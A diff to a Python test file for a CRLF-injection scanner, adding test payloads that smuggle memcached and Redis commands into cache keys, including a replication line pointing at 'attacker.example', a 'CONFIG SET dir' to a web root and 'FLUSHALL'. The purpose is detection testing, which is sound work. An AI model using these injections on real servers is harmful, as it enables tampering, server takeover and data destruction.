@@ -31,11 +31,25 @@ CTX = ScanContext()
         # SMTP envelope commands written into a conversation the function has with a mail server
         ("me@example.com\r\nRCPT TO:<victim@example.org>", "HG-CRLF-005"),
         ("\r\nDATA\r\nfoo\r\n.\r\nMAIL FROM: <a@example.com>\r\nRCPT TO: <b@example.com>\r\n", "HG-CRLF-005"),
+        # a cache key that ends its command and stores (memcached: the data line as long as announced)
+        # or reconfigures the server (Redis)
+        ("session42\r\nset admin 0 3600 4\r\ntrue\r\n", "HG-CRLF-006"),
+        ("k\r\ncas token 0 0 2 77\r\nok", "HG-CRLF-006"),
+        ("k\r\nCONFIG SET dir /var/www/html\r\n", "HG-CRLF-006"),
+        ("k\nslaveof attacker.example 6379", "HG-CRLF-006"),
+        ("k\r\nFLUSHALL\r\n", "HG-CRLF-006"),
     ],
 )
 def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
     found = crlf.scan(payload, CTX)
     assert found is not None and found.rule_id == rule_id, found
+
+
+def test_a_storage_command_needs_the_data_line_it_announces() -> None:
+    """A note's line of a word and three numbers is no memcached command: its next line is not as long
+    as the last number says."""
+    assert crlf.scan("Groceries\nadd eggs 1 2 12\nmilk", CTX) is None
+    assert crlf.scan("Groceries\nadd eggs 1 2 4\nmilk", CTX) is not None  # (four characters: the framing)
 
 
 def test_line_break_in_header_value() -> None:
